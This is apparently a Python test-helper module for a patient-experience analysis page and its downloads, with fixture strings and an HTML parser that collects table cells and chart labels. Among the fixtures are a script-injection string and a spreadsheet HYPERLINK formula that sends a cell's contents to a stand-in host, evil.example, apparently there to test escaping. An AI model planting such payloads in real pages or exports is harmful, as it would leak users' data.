"""Shared data and readers for the analysis page and analysis download tests."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

PATIENT = "patient-experience"
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
SELF_HARM = "Some nights I self harm when the waiting gets too much for me"
CONTACT = "The nurse was kind, ring me on 07700 900123 or write to jo.bloggs@example.com"
SMALL_COUNTS = {"1", "2", "3", "4"}


def patient_answers(
    good: str, better: str = "Shorter waits would help", fft: str = "very_good"
) -> dict[str, Any]:
    """Answers to the patient questionnaire's FFT and its two coded comments."""
    return {"fft": fft, "what_was_good": good, "could_do_better": better}


class FigureReader(HTMLParser):
    """Collects what a reader sees in every table cell and chart label of a page.

    The heading repeated inside each cell for narrow screens is aria-hidden and left out, and so are a
    chart's axis ticks (centred texts): they mark the scale, not a count.
    """

    def __init__(self) -> None:
        super().__init__()
        self.figures: list[str] = []
        self._collecting = False
        self._tick = False
        self._hidden = 0
        self._parts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Start collecting in a data cell or an SVG text; skip ticks and aria-hidden headings."""
        if tag == "text" and ("text-anchor", "middle") in attrs:
            self._tick = True
        elif tag in ("td", "text"):
            self._collecting = True
            self._parts = []
        elif tag == "span" and ("aria-hidden", "true") in attrs and self._collecting:
            self._hidden += 1

    def handle_endtag(self, tag: str) -> None:
        """Finish a cell or label."""
        if tag == "text" and self._tick:
            self._tick = False
        elif tag in ("td", "text") and self._collecting:
            self._collecting = False
            self.figures.append(" ".join("".join(self._parts).split()))
        elif tag == "span" and self._hidden:
            self._hidden -= 1

    def handle_data(self, data: str) -> None:
        """Keep visible text inside a cell."""
        if self._collecting and not self._hidden:
            self._parts.append(data)


def figures(html: str) -> list[str]:
    """Every table cell and chart label on a page, as text."""
    reader = FigureReader()
    reader.feed(html)
    return reader.figures


def table_html(html: str, table_id: str) -> str:
    """The markup of one table, found by its id."""
    start = html.index(f'id="{table_id}"')
    return html[start : html.index("</table>", start)]
